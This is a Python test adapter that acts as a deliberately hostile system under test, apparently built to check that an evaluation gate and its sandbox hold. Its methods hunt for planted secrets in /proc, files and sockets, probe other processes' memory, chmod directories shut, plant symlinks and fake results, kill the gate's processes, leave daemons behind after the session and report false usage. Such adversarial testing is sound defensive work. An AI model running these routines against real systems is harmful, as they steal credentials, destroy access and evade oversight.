"""A system under test that attacks whatever it reaches. Copied into a repository as its adapter.

Each message of a scenario names a method and its argument. Standard library only, but for the table that the gate asks
for.
"""

import base64
import contextlib
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

SECRET = re.compile(rb"PLANTED_([0-9a-f]{16})")
PLACES = ("environ", "cmdline", "maps", "auxv", "comm", "status", "mountinfo", "limits", "fdinfo/0")
KEPT = 1 << 22


def backwards(content: bytes) -> list[str]:
    return [digits.decode()[::-1] for digits in SECRET.findall(content)[:5]]


def held(path: Path) -> list[str]:
    """The secrets in a file that can be read."""
    try:
        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return []
    with os.fdopen(number, "rb") as file, contextlib.suppress(OSError):
        if stat.S_ISREG(os.fstat(number).st_mode):
            return backwards(file.read(KEPT))
    return []


class Adapter:
    def migrate(self, database_url: str) -> None:
        import psycopg

        with psycopg.connect(database_url) as connection:
            connection.execute("CREATE TABLE notes (id serial PRIMARY KEY, text text NOT NULL)")

    def open(self, context: Any) -> "Conversation":
        return Conversation(context)


class Conversation:
    def __init__(self, context: Any) -> None:
        self._context = context

    def send(self, message: str) -> Any:
        method, _, argument = message.partition(" ")
        return getattr(self, method)(argument)

    def say(self, text: str) -> dict[str, Any]:
        return {"text": text, "state": "SAID"}

    def wrong(self, text: str) -> dict[str, Any]:
        return {"text": text, "state": "WRONG"}

    def reply(self, argument: str) -> Any:
        """Any JSON value in the place of a reply, with text and state that may be anything."""
        return json.loads(argument)

    def repeat(self, argument: str) -> dict[str, Any]:
        """A reply of any length."""
        count, _, text = argument.partition(" ")
        return self.say(text * int(count))

    def write_raw(self, argument: str) -> dict[str, Any]:
        """Bytes to the standard streams and to every other open file."""
        everywhere, _, encoded = argument.partition(" ")
        content = base64.b64decode(encoded)
        for number in range(3 if everywhere == "streams" else 64):
            with contextlib.suppress(OSError):
                os.write(number, content)
        return self.say("written")

    def flood(self, count: str) -> dict[str, Any]:
        line = "x" * 99 + "\n"
        for _ in range(int(count)):
            sys.stdout.write(line)
            sys.stderr.write(line)
        return self.say("flooded")

    def fail(self, text: str) -> None:
        raise RuntimeError(text)

    def leave(self, how: str) -> None:
        if how == "exit":
            os._exit(0)
        if how == "system exit":
            raise SystemExit(0)
        if how == "interrupt":
            raise KeyboardInterrupt
        if how == "recursion":
            self.leave(how)
        if how == "close":
            os.closerange(0, 256)
        os.kill(os.getpid(), getattr(signal, how, signal.SIGKILL))

    def hang(self, seconds: str) -> dict[str, Any]:
        time.sleep(float(seconds))
        return self.say("woke")

    def ignore_signals(self, seconds: str) -> dict[str, Any]:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
            signal.signal(number, signal.SIG_IGN)
        return self.hang(seconds)

    def daemon(self, nonce: str) -> dict[str, Any]:
        """A process of a session of its own, whose parent has gone."""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                command = f"import time; time.sleep(600) # {nonce}"
                os.execv(sys.executable, [sys.executable, "-c", command])
            os._exit(0)
        subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(600) # {nonce}"], start_new_session=True)
        return self.say("left one behind")

    def chmod(self, places: str) -> dict[str, Any]:
        for top in json.loads(places):
            for parent, folders, files in os.walk(top, topdown=False):
                for path in (Path(parent) / name for name in (*folders, *files, "")):
                    # What a link leads to may be the machine's own root folder.
                    with contextlib.suppress(OSError):
                        if not path.is_symlink():
                            path.chmod(0)
        return self.say("closed")

    def plant(self, argument: str) -> dict[str, Any]:
        """Write results, outputs and code where the gate or the runner may read them."""
        given = json.loads(argument)
        for place in given["places"]:
            path = Path(place)
            if os.geteuid() == 0 and os.path.realpath(place) != place:
                continue  # as root a link would lead to any file of the machine
            with contextlib.suppress(OSError, ValueError):
                if given["how"] == "link":
                    path.symlink_to("/etc/passwd")
                elif given["how"] == "remove":
                    path.unlink()
                elif given["how"] == "folder":
                    path.mkdir(parents=True)
                else:
                    path.parent.mkdir(parents=True, exist_ok=True)
                    with path.open("a") as file:
                        file.write(given["text"])
        return self.say("planted")

    def look(self, argument: str) -> dict[str, Any]:
        """Look for secrets; digits are told backwards, so that no masking of the gate hides a find."""
        given = json.loads(argument)
        found = [*self._in_processes(), *self._in_files(given["tops"])]
        found += [f"own environment {digits}" for digits in backwards(repr(dict(os.environ)).encode())]
        if given["memory"]:  # in the container, where every process and socket is the gate's or the system's
            found += self._in_sockets()
            found += [f"LOOT-MEMORY {place}" for place in self._opened_memories()]
        return self.say(json.dumps(found) if found else "nothing")

    def _in_processes(self) -> list[str]:
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                files = [f"/proc/{pid}/fd/{number}" for number in os.listdir(f"/proc/{pid}/fd")]
                found += [f"{path} {digits}" for path in files for digits in held(Path(path))]
            for place in PLACES:
                path = Path("/proc") / pid / place
                found += [f"{path} {digits}" for digits in held(path)]
        return found

    def _opened_memories(self) -> list[str]:
        """Memories that can be opened of processes outside the system's own."""
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                command = Path(f"/proc/{pid}/cmdline").read_bytes()
                if pid != str(os.getpid()) and b"worker" not in command and b"time.sleep" not in command:
                    os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
                    found.append(f"{pid} {command[:100]!r}")
        return found

    def _in_files(self, tops: list[str]) -> list[str]:
        found = []
        for top in tops:
            for parent, folders, files in os.walk(top):
                folders[:] = [name for name in folders if name not in {"proc", "sys", "site-packages", "usr"}][:200]
                places = [Path(parent) / name for name in files[:500]]
                found += [f"{path} {digits}" for path in places for digits in held(path)]
        return found

    def _in_sockets(self) -> list[str]:
        found = []
        with contextlib.suppress(OSError):
            for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
                parts = line.split()
                if len(parts) > 7 and "docker" not in parts[7] and ".s.PGSQL" not in parts[7]:
                    address = "\0" + parts[7][1:] if parts[7].startswith("@") else parts[7]
                    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
                        client.settimeout(0.2)
                        client.connect(address)
                        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
                        found += [f"{parts[7]} {digits}" for digits in backwards(client.recv(65536))]
        return found

    def ask(self, body: str) -> dict[str, Any]:
        """A model call through the gateway; a refusal is no error of ours."""
        request = urllib.request.Request(
            os.environ["OPENAI_BASE_URL"] + "/chat/completions",
            body.encode(),
            {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"},
        )
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:
                return self.say(answer.read().decode(errors="replace")[:5000])
        except (OSError, urllib.error.URLError) as error:
            return self.say(f"refused: {error}")

    def send_raw(self, encoded: str) -> dict[str, Any]:
        """Any bytes to the gateway."""
        address = urlsplit(os.environ["OPENAI_BASE_URL"])
        content = base64.b64decode(encoded).replace(b"TOKEN", os.environ["OPENAI_API_KEY"].encode())
        with (
            contextlib.suppress(OSError),
            socket.create_connection((address.hostname, address.port), timeout=2) as link,
        ):
            link.sendall(content)
            link.recv(65536)
        return self.say("sent")

    def signal_gate(self, pids: str) -> dict[str, Any]:
        for pid in json.loads(pids):
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
        return self.say("signalled")

    def lie(self, argument: str) -> dict[str, Any]:
        """A reply that reports a usage of its own making."""
        return {**self.say("cheap"), "usage": json.loads(argument)}
